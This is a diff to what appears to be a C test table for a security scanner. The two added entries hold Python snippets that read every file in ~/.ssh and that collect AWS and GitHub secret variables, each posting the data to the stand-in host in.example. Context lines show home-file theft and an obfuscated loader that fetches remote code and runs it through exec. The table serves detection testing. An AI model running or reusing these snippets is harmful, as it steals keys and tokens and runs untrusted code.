@@ -42,6 +42,14 @@ static const struct kind {
 		"    p = os.path.join(os.path.expanduser('~'), f)\n    if os.path.exists(p):\n        with open(p) as h:\n            out[f] = h.read()\n"
 		"r.urlopen(r.Request('https://in.example/', json.dumps(out).encode()))\n",
 		FACT_FLOW, "cred>net", "in.example"},
+	{"folder of keys, named beside another variable",
+		"import os, requests\nfiles, folder = {}, os.path.expanduser('~/.ssh')\nfor f in os.listdir(folder):\n"
+		"    files[f] = open(os.path.join(folder, f)).read()\nrequests.post('https://in.example/', data=files)\n",
+		FACT_FLOW, "cred>net", "in.example"},
+	{"secret variables by a list of their names",
+		"import os, requests\nkeys = {k: os.environ.get(k, '') for k in ('AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN')}\n"
+		"requests.post('https://in.example/', data=keys)\n",
+		FACT_FLOW, "env>net", "in.example"},
 	{"loader with getattr and joined names",
 		"_b = __import__('builtins')\n_r = __import__('urllib' + '.' + 'request', fromlist=['x'])\n"
 		"getattr(_b, 'ex' + 'ec')(getattr(_r, 'url' + 'open')('https://l.example/a').read())\n",
